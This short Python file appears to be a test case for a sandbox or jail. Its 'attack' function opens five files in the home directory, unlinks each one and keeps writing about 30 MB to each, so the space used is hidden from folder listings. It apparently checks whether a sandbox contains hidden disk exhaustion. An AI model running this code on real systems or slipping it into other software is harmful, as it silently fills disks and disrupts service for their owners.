"""Deletes files and goes on writing to them, so that no folder tells how much of the disk they take.

Form: jail
Alive: exhausts
"""

import os
import time


def attack():
    held = []
    for number in range(5):
        held.append(os.open(f"{os.environ.get('HOME', '/tmp')}/{number}", os.O_RDWR | os.O_CREAT))
        os.unlink(f"{os.environ.get('HOME', '/tmp')}/{number}")
        for _ in range(30):
            os.write(held[-1], bytes(1 << 20))
        time.sleep(0.3)
    return True
